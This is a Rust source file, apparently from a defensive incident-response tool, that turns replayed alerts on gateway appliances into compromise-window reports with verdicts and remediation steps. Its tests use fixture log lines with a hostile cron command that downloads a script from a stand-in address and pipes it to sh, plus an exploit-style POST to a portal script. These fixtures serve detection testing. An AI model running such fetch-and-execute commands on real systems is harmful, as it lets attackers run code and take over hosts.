//! The compromise-window report: what a replay found per appliance, when compromise likely began, a
//! verdict and what to do. Built from the replay's alerts and events; rendered as Markdown for people
//! and as JSON (schema: `docs/replay-report.schema.json`) for tools.

mod hunt;
mod markdown;

use std::collections::{BTreeMap, BTreeSet};

use chrono::{DateTime, Utc};
use serde::Serialize;

pub use hunt::{Hunt, Sighting};

#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Serialize)]
#[serde(rename_all = "kebab-case")]
pub enum Verdict {
    NotSeen,
    Probed,
    Attempted,
    LikelyCompromised,
    Compromised,
}

impl Verdict {
    pub fn as_str(self) -> &'static str {
        match self {
            Verdict::NotSeen => "not-seen",
            Verdict::Probed => "probed",
            Verdict::Attempted => "attempted",
            Verdict::LikelyCompromised => "likely-compromised",
            Verdict::Compromised => "compromised",
        }
    }

    fn actions(self) -> &'static [&'static str] {
        match self {
            Verdict::Compromised | Verdict::LikelyCompromised => &[
                "Isolate the appliance; take a forensic image (disk and memory) before changing anything.",
                "Rebuild it from clean firmware at a fixed version rather than cleaning it in place.",
                "Reset the passwords of every account active during the window (below) and of the appliance's \
                 own accounts (nsroot, LDAP bind and service accounts); revoke their sessions.",
                "Replace the appliance's TLS keys and certificates and any secrets in its configuration.",
                "Hunt on the back-end systems it connected to during the window, and block the source addresses.",
            ],
            Verdict::Attempted => &[
                "Confirm the mitigation or patch was in place before the first attempt; if not, treat as likely \
                 compromised.",
                "Check the appliance for post-exploitation artefacts (new files under the portal templates, cron \
                 jobs, processes running as nobody) and keep watching its CPU and memory.",
                "Block the source addresses.",
            ],
            Verdict::Probed => &["Verify the patch level; block the scanning sources if they persist."],
            Verdict::NotSeen => &["No activity in the replayed range; keep monitoring."],
        }
    }
}

/// One finding: when, which rule, the alert and the evidence lines.
#[derive(Debug, Clone, PartialEq, Serialize)]
pub struct Finding {
    pub at: String,
    pub stage: &'static str,
    pub rule: String,
    pub alert_id: String,
    pub evidence: Vec<String>,
}

/// One post-exploitation behaviour — the same rule on the same command, URL or file — however often
/// it was seen: the report lists it once, with its count and its first and last time.
#[derive(Debug, Clone, PartialEq, Serialize)]
pub struct Behaviour {
    pub stage: &'static str,
    pub rule: String,
    /// What was done: the command line, URL or file of the alerts (else their first evidence line).
    pub behaviour: String,
    /// Matches, suppressed repeats included.
    pub count: u64,
    pub first: String,
    pub last: String,
    /// The distinct alerts (event.id), earliest first; at most `MAX_BEHAVIOUR_ALERTS`.
    pub alert_ids: Vec<String>,
    /// The evidence of the earliest alert.
    pub evidence: Vec<String>,
}

/// A source address seen in the appliance's alerts, with its context.
#[derive(Debug, Clone, Default, PartialEq, Serialize)]
pub struct Source {
    pub ip: String,
    pub first: String,
    pub last: String,
    pub stages: BTreeSet<&'static str>,
    pub alerts: u64,
    #[serde(skip_serializing_if = "Option::is_none")]
    pub country: Option<String>,
    #[serde(skip_serializing_if = "Option::is_none")]
    pub city: Option<String>,
    #[serde(skip_serializing_if = "Option::is_none")]
    pub asn: Option<u64>,
    #[serde(skip_serializing_if = "Option::is_none")]
    pub as_org: Option<String>,
    /// Indicator feeds that listed the address (`feed: indicator`).
    pub indicators: BTreeSet<String>,
}

/// A user session active on the appliance.
#[derive(Debug, Clone, PartialEq, Eq, PartialOrd, Ord, Serialize)]
pub struct Session {
    pub user: String,
    pub first: String,
    pub last: String,
    pub sessions: BTreeSet<String>,
    pub client_ips: BTreeSet<String>,
}

/// A back-end system the appliance connected to (for a user).
#[derive(Debug, Clone, PartialEq, Eq, PartialOrd, Ord, Serialize)]
pub struct Backend {
    pub ip: String,
    pub ports: BTreeSet<u64>,
    pub first: String,
    pub last: String,
    pub users: BTreeSet<String>,
    /// Connections of each (port, user) of this back-end seen within the window, counted over the whole
    /// time that (port, user) was seen.
    pub connections: u64,
}

/// The window in which compromise has to be assumed.
#[derive(Debug, Clone, PartialEq, Serialize)]
pub struct Window {
    pub start: String,
    pub end: String,
    pub basis: String,
}

/// The report of one appliance.
#[derive(Debug, Clone, PartialEq, Serialize)]
pub struct ApplianceReport {
    pub appliance: String,
    pub verdict: Verdict,
    pub reasons: Vec<String>,
    pub first_probe: Option<Finding>,
    pub first_exploit_attempt: Option<Finding>,
    pub first_likely_success: Option<Finding>,
    /// Each post-exploitation alert once (a suppression summary repeats its alert's id).
    pub post_exploitation: Vec<Finding>,
    /// The same, grouped by behaviour.
    pub behaviours: Vec<Behaviour>,
    pub window: Option<Window>,
    pub sources: Vec<Source>,
    pub sessions_in_window: Vec<Session>,
    pub backends_in_window: Vec<Backend>,
    pub anomalies: Vec<Finding>,
    pub other_alerts: BTreeMap<&'static str, u64>,
    pub mitigated: Option<String>,
    pub actions: Vec<&'static str>,
    /// What the HTML report draws; not part of the JSON report.
    #[serde(skip)]
    pub timeline: Timeline,
}

/// One metric sample as the baselines scored it.
#[derive(Debug, Clone, Copy, PartialEq)]
pub struct MetricPoint {
    pub at: DateTime<Utc>,
    pub value: f64,
    /// The learned band.
    pub low: f64,
    pub high: f64,
    pub warming: bool,
}

/// An appliance's history for the HTML report: every alert as (time, stage), and its metric series.
#[derive(Debug, Clone, Default, PartialEq)]
pub struct Timeline {
    pub marks: Vec<(DateTime<Utc>, &'static str)>,
    /// Short metric name (`cpu`, `memory`, …) → points in time order.
    pub series: BTreeMap<&'static str, Vec<MetricPoint>>,
    /// The first and last time anything of the appliance was seen.
    pub span: Option<(DateTime<Utc>, DateTime<Utc>)>,
}

impl Timeline {
    fn saw(&mut self, at: DateTime<Utc>) {
        self.span = Some(self.span.map_or((at, at), |(a, b)| (a.min(at), b.max(at))));
    }
}

fn joined<'a>(items: impl IntoIterator<Item = &'a String>, separator: &str) -> String {
    items.into_iter().cloned().collect::<Vec<_>>().join(separator)
}

impl Source {
    /// The table row of every rendering: address, first, last, stages, country / city, AS, indicators.
    pub fn cells(&self) -> [String; 7] {
        let place = [self.country.clone(), self.city.clone()].into_iter().flatten().collect::<Vec<_>>().join(" / ");
        let asn = match (self.asn, &self.as_org) {
            (Some(n), Some(o)) => format!("AS{n} {o}"),
            (Some(n), None) => format!("AS{n}"),
            _ => String::new(),
        };
        let stages = self.stages.iter().copied().collect::<Vec<_>>().join(", ");
        [self.ip.clone(), self.first.clone(), self.last.clone(), stages, place, asn, joined(&self.indicators, "; ")]
    }
}

impl Session {
    /// user, first, last, sessions, client addresses.
    pub fn cells(&self) -> [String; 5] {
        [
            self.user.clone(),
            self.first.clone(),
            self.last.clone(),
            joined(&self.sessions, ", "),
            joined(&self.client_ips, ", "),
        ]
    }
}

impl Backend {
    /// address, ports, first, last, users, connections.
    pub fn cells(&self) -> [String; 6] {
        let ports = self.ports.iter().map(u64::to_string).collect::<Vec<_>>().join(", ");
        [
            self.ip.clone(),
            ports,
            self.first.clone(),
            self.last.clone(),
            joined(&self.users, ", "),
            self.connections.to_string(),
        ]
    }
}

/// The whole report.
#[derive(Debug, Clone, PartialEq, Serialize)]
pub struct Report {
    pub version: u32,
    pub run_id: String,
    pub from: String,
    pub to: Option<String>,
    pub exploit_publication: String,
    pub records: u64,
    pub unparsed: u64,
    pub alerts: BTreeMap<&'static str, u64>,
    pub appliances: Vec<ApplianceReport>,
}

#[cfg(test)]
mod tests {
    use super::hunt::behaviour_of;
    use super::*;
    use crate::detect::sigma::Stage;
    use crate::detect::Alert;
    use serde_json::json;

    fn post(id: &str, at: &str, line: &str, count: u64) -> Alert {
        Alert {
            id: id.into(),
            rule_id: "gw-post".into(),
            stage: Stage::PostExploitation,
            doc: json!({
                "@timestamp": at,
                "observer": {"hostname": "adc-a"},
                "gatewatch": {"count": count, "evidence": [{"original": line}]},
            }),
            update: false,
        }
    }

    /// A report's header, for a hunt to fill.
    fn header() -> Report {
        Report {
            version: 1,
            run_id: "r".into(),
            from: "2020-01-01T00:00:00Z".into(),
            to: None,
            exploit_publication: "2020-01-10T00:00:00Z".into(),
            records: 0,
            unparsed: 0,
            alerts: BTreeMap::new(),
            appliances: Vec::new(),
        }
    }

    #[test]
    fn repeated_behaviour_is_listed_once_with_its_count_and_first_and_last_time() {
        let cron = |t: &str, pid: u32| {
            format!("Jan 19 {t} <cron.info> ns /usr/sbin/cron[{pid}]: (nobody) CMD (curl http://192.0.2.7/ci.sh | sh)")
        };
        let mut hunt = Hunt::default();
        // One alert, then its suppression summary (same id, 3 matches in the window)...
        hunt.alert(&post("a1", "2020-01-11T02:00:00Z", &cron("02:00:00", 11), 1));
        hunt.alert(&post("a1", "2020-01-11T02:00:00Z", &cron("02:00:00", 11), 3));
        // ...the same command an hour later from another cron process, and something else.
        hunt.alert(&post("a2", "2020-01-11T03:00:00Z", &cron("03:00:00", 12), 1));
        hunt.alert(&post(
            "a3",
            "2020-01-11T02:30:00Z",
            "Jan 19 02:30:00 <local7.notice> ns bash[7]: root on /dev/pts/0 shell_command=\"id\"",
            1,
        ));
        let header = header();
        let publication = "2020-01-10T00:00:00Z".parse().unwrap();
        let report = hunt.report(header, &BTreeMap::new(), publication, None);
        let a = &report.appliances[0];
        let ids: Vec<&str> = a.post_exploitation.iter().map(|f| f.alert_id.as_str()).collect();
        assert_eq!(ids, ["a1", "a3", "a2"], "each alert once, in time order");
        let grouped: Vec<(&str, u64, &str, &str)> =
            a.behaviours.iter().map(|b| (b.behaviour.as_str(), b.count, b.first.as_str(), b.last.as_str())).collect();
        assert_eq!(
            grouped,
            [
                ("(nobody) CMD (curl http://192.0.2.7/ci.sh | sh)", 4, "2020-01-11T02:00:00Z", "2020-01-11T03:00:00Z"),
                ("root on /dev/pts/0 shell_command=\"id\"", 1, "2020-01-11T02:30:00Z", "2020-01-11T02:30:00Z"),
            ]
        );
        assert_eq!(a.behaviours[0].alert_ids, ["a1", "a2"]);
        let md = report.markdown();
        assert_eq!(md.matches("ci.sh").count(), 1, "{md}");
        assert!(md.contains("2 distinct behaviours (3 alerts, 5 matches)"), "{md}");
        assert!(md.contains("×4 2020-01-11T02:00:00Z → 2020-01-11T03:00:00Z"), "{md}");
    }

    #[test]
    fn an_appliance_keeps_a_bounded_number_of_findings_and_sources_however_many_alerts_arrive() {
        let mut hunt = Hunt::default();
        let extra = 25;
        for i in 0..hunt::MAX_FINDINGS + extra {
            let mut alert = post(&format!("p{i}"), "2020-01-11T02:00:00Z", &format!("cmd {i}"), 1);
            alert.doc["source"] = json!({"ip": format!("10.{}.{}.{}", i >> 16, (i >> 8) & 255, i & 255)});
            hunt.alert(&alert);
            let mut anomaly = alert.clone();
            anomaly.stage = Stage::Anomaly;
            hunt.alert(&anomaly);
        }
        // A summary of a kept alert still counts once the list is full.
        let mut summary = post("p0", "2020-01-11T02:00:00Z", "cmd 0", 7);
        summary.update = true;
        hunt.alert(&summary);
        let header = header();
        let report = hunt.report(header, &BTreeMap::new(), "2020-01-10T00:00:00Z".parse().unwrap(), None);
        let a = &report.appliances[0];
        assert_eq!(a.post_exploitation.len(), hunt::MAX_FINDINGS);
        assert_eq!(a.anomalies.len(), hunt::MAX_FINDINGS);
        assert!(a.post_exploitation.iter().all(|f| f.alert_id != format!("p{}", hunt::MAX_FINDINGS)));
        assert_eq!(a.behaviours.iter().find(|b| b.behaviour == "cmd 0").map(|b| b.count), Some(7));
        assert_eq!(a.sources.len(), hunt::MAX_FINDINGS + extra);
    }

    #[test]
    fn behaviour_drops_the_syslog_header_or_keeps_the_request_line() {
        assert_eq!(
            behaviour_of("Jan 1 00:00:00 <cron.info> h /usr/sbin/cron[1]: (nobody) CMD (x)"),
            "(nobody) CMD (x)"
        );
        assert_eq!(
            behaviour_of(
                "198.51.100.7 - - [10/Jan/2020:20:05:00 +0000] \"POST /vpns/portal/scripts/newbm.pl HTTP/1.1\" 200 143"
            ),
            "POST /vpns/portal/scripts/newbm.pl HTTP/1.1"
        );
        assert_eq!(behaviour_of("plain  message\nline"), "plain message line");
    }
}
